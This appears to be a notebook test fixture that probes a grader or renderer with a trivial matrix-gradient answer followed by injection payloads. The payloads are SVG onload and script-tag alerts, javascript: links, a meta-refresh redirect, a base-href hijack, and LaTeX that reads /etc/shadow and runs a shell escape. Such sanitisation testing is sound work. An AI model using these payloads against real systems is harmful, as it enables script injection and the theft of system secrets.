# /// attack
# tries = "shows pictures with scripts, formulas with commands, pages with frames"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(\"VERRAETER\")'><g/></svg>"))
display(HTML("<script>alert('VERRAETER')</script><meta http-equiv=refresh content='0;url=//x'>"))
display(Javascript("alert('VERRAETER')"))
display(Latex(r"$$\input{/etc/shadow}\write18{id}\href{javascript:alert('VERRAETER')}{x}$$"))
display(Markdown("[x](javascript:alert('VERRAETER'))"))
display({"application/x-VERRAETER+json": {"a": 1}, "text/html": "<base href=//x>"}, raw=True)
